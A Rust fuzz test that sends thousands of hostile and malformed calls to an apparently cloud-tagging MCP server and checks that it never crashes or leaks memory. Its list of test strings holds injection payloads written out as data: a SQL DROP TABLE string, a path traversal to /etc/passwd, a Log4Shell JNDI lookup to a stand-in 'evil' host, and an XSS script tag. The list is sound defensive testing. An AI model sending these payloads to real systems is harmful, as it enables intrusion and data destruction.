//! Hostile input over MCP: 3,000 generated argument objects (random types, strings at and far
//! over the limits, deep nesting, unicode edge cases, injection strings, near-valid arguments)
//! against every tool, plus garbage lines (invalid UTF-8, non-JSON, JSON that is not JSON-RPC,
//! a 5 MiB line). Every request must get a result or a JSON-RPC error, the server must still
//! answer a valid call afterwards, and its memory must not grow with the number of calls.

use crate::common::StdioClient;
use serde_json::{Map, Value, json};

/// SplitMix64, so a failure reproduces exactly.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
}

const NASTY: &[&str] = &[
    "",
    " ",
    "\u{0}",
    "\u{1b}[2J",
    "\u{202E}reversed",
    "zero\u{200B}width",
    "\u{FEFF}bom",
    "👩‍👩‍👧‍👦",
    "e\u{301}\u{301}\u{301}",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "%s%n%x",
    "'; DROP TABLE audit; --",
    "../../../../etc/passwd",
    "${jndi:ldap://evil/x}",
    "<script>alert(1)</script>",
    "arn:aws:ec2:us-east-1:123456789012:instance/i-0abc",
    "arn:aws:s3:::b",
    "arn:",
    "arn:aws:::::",
    "AKIAIOSFODNN7EXAMPLE",
    "NaN",
    "Infinity",
    "-0",
    "99999999999999999999999999999999999999999",
    "ec2:*",
    "*",
    "production",
    "CostCenter",
    "critical",
    "native",
    "refused",
    "2026-11-22T00:00:00Z",
    "not-a-date",
    "djEuMTAuZjZhNjQwMWMzMzU0",
];

const KEYS: &[&str] = &[
    "limit",
    "cursor",
    "resource_types",
    "regions",
    "accounts",
    "tag_keys",
    "min_severity",
    "force_refresh",
    "view",
    "include_empty",
    "only_without_any_tags",
    "resource_ids",
    "tags",
    "resource_type",
    "since",
    "until",
    "tool",
    "outcome",
    "session",
    "__proto__",
    "constructor",
    "",
    "ключ",
    "🔑",
];

fn string(r: &mut Rng) -> String {
    match r.below(6) {
        0 => NASTY[r.below(NASTY.len() as u64) as usize].to_string(),
        // Mostly near the per-string limit (2 KiB), sometimes far over it.
        1 if r.below(50) == 0 => "x".repeat(r.below(100_000) as usize),
        1 => "x".repeat(1900 + r.below(300) as usize),
        2 => (0..r.below(50))
            .map(|_| char::from_u32(r.below(0x2FFFF) as u32).unwrap_or('?'))
            .collect(),
        3 => (0..r.below(40))
            .map(|_| (b' ' + r.below(95) as u8) as char)
            .collect(),
        4 => format!(
            "{}{}",
            NASTY[r.below(NASTY.len() as u64) as usize],
            "😀".repeat(r.below(3000) as usize)
        ),
        _ => (0..r.below(20))
            .map(|_| char::from_u32(r.below(32) as u32).unwrap_or('?'))
            .collect(),
    }
}

/// A random value; `nodes` bounds the total size so generation stays fast.
fn value(r: &mut Rng, depth: u32, nodes: &mut u32) -> Value {
    let choice = if depth > 60 || *nodes == 0 {
        r.below(4)
    } else {
        r.below(9)
    };
    *nodes = nodes.saturating_sub(1);
    match choice {
        0 => Value::Null,
        1 => Value::Bool(r.below(2) == 0),
        2 => match r.below(5) {
            0 => json!(i64::MAX),
            1 => json!(i64::MIN),
            2 => json!(u64::MAX),
            3 => json!(1e308),
            _ => json!(r.below(2000) as i64 - 1000),
        },
        3 => Value::String(string(r)),
        4 | 5 => {
            let len = if r.below(10) == 0 {
                r.below(3000)
            } else {
                r.below(6)
            };
            Value::Array((0..len).map(|_| value(r, depth + 1, nodes)).collect())
        }
        6 => {
            // Deep nesting, quickly.
            let mut v = Value::String("deep".into());
            for _ in 0..r.below(80) {
                v = json!([v]);
            }
            v
        }
        _ => {
            let mut m = Map::new();
            for _ in 0..r.below(8) {
                let key = if r.below(3) == 0 {
                    string(r)
                } else {
                    KEYS[r.below(KEYS.len() as u64) as usize].to_string()
                };
                m.insert(key, value(r, depth + 1, nodes));
            }
            Value::Object(m)
        }
    }
}

fn arguments(r: &mut Rng) -> Value {
    let nodes = &mut 300;
    match r.below(4) {
        // Mostly real argument names with hostile values.
        0 | 1 => {
            let mut m = Map::new();
            for _ in 0..r.below(6) + 1 {
                m.insert(
                    KEYS[r.below(KEYS.len() as u64) as usize].to_string(),
                    value(r, 1, nodes),
                );
            }
            Value::Object(m)
        }
        2 => value(r, 0, nodes),
        _ => json!({"tags": {string(r): string(r)}, "resource_type": string(r)}),
    }
}

/// The reply to request `id`, or an error the server could not tie to a request (unparsable
/// or oversized input; requests are sequential, so it belongs to this one).
fn answer(c: &mut StdioClient, id: &Value, i: u64, line: &str) -> Value {
    loop {
        let Some(reply) = c.try_next_message(std::time::Duration::from_secs(25)) else {
            panic!(
                "call {i} got no answer in 25 s ({} bytes: {}…); server stderr:\n{}",
                line.len(),
                line.chars().take(600).collect::<String>(),
                c.drain_stderr()
            );
        };
        let untied = reply.get("error").is_some() && reply.get("id").is_none_or(Value::is_null);
        if reply.get("id") == Some(id) || untied {
            return reply;
        }
    }
}

#[test]
fn thousands_of_hostile_calls_never_crash_or_leak() {
    let (mut c, _) = StdioClient::initialized(
        &["--demo", "--no-prewarm"],
        &[
            ("TAGWARDEN_BUDGET_PER_HOUR", "0"),
            ("TAGWARDEN_BUDGET_BURST", "0"),
            ("TAGWARDEN_BUDGET_PRINCIPAL_PER_HOUR", "0"),
            ("TAGWARDEN_BUDGET_GLOBAL_PER_HOUR", "0"),
            ("TAGWARDEN_LOOP_MAX_REPEATS", "0"),
            ("TAGWARDEN_LOG", "warn"),
        ],
    );
    // Every tool the server registers (not a list kept here that a new tool could miss).
    let registry = tagwarden::Registry::new();
    let tools = registry.names();
    // Warm up: the estate loaded, every tool run once.
    for tool in &tools {
        c.call(tool, json!({}));
    }
    for _ in 0..3 {
        c.call("check_tag_compliance", json!({"limit": 5}));
    }
    let mut rng = Rng(0x7A6_3A8D);
    let mut answered = 0;
    let mut before = 0;
    for i in 0..3000u64 {
        // Memory is compared over the last third: by call 2,000 the allocator has grown to
        // the largest requests the limits allow and the bounded caches (answers, suggestion
        // statistics) have filled with the answers of every tool — reports and CSV pages are
        // large, and with 20 tools that takes longer (measured: 130 MiB at call 1,500, a step
        // to 144 MiB by call 2,000 as the caches fill, then 146 MiB at the end). A leak keeps
        // growing with every further call.
        if i == 2000 {
            before = c.rss_kib();
        }
        let tool = tools[(i % tools.len() as u64) as usize];
        let name = if rng.below(50) == 0 {
            string(&mut rng)
        } else {
            tool.to_string()
        };
        // Mostly tools/call with hostile arguments; sometimes params that are not even an
        // object, so the request cannot be parsed.
        let id = json!(format!("fuzz-{i}"));
        let params = if rng.below(40) == 0 {
            value(&mut rng, 0, &mut 200)
        } else {
            json!({"name": name, "arguments": arguments(&mut rng)})
        };
        let line = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params})
            .to_string();
        if std::env::var("FUZZ_DUMP")
            .ok()
            .and_then(|d| d.parse::<u64>().ok())
            == Some(i)
        {
            std::fs::write("/tmp/fuzz_request.json", &line).unwrap();
        }
        c.send_raw(&line);
        let reply = answer(&mut c, &id, i, &line);
        assert!(
            reply.get("result").is_some() || reply.get("error").is_some(),
            "call {i}: neither result nor error: {reply}"
        );
        answered += 1;
        if i % 500 == 0 {
            eprintln!("fuzz: {i} calls answered, RSS {} KiB", c.rss_kib());
        }
        if i % 500 == 0 {
            // Garbage lines between calls: invalid UTF-8, not JSON, a JSON array, a huge line.
            c.send_bytes(&[0xff, 0xfe, b'{', 0x80]);
            assert_eq!(c.next_message()["error"]["code"], -32700);
            c.send_raw("[1, 2, 3]");
            assert!(c.next_message()["error"].is_object());
        }
        if i == 1500 {
            c.send_raw(&format!(
                "{{\"jsonrpc\":\"2.0\",\"id\":\"big\",\"method\":\"ping\",\"x\":\"{}\"}}",
                "y".repeat(5 << 20)
            ));
            assert_eq!(
                c.next_message()["error"]["code"],
                -32600,
                "over-long line refused"
            );
        }
    }
    assert_eq!(answered, 3000);
    let ok = c.call("check_tag_compliance", json!({"limit": 3}));
    assert_eq!(
        ok["structuredContent"]["resources"], 5000,
        "still serving valid calls"
    );
    let after = c.rss_kib();
    assert!(before > 0 && after > 0, "RSS readable");
    let growth = after as f64 / before as f64;
    assert!(
        growth <= 1.1,
        "RSS grew from {before} KiB to {after} KiB ({growth:.2}x)"
    );
}
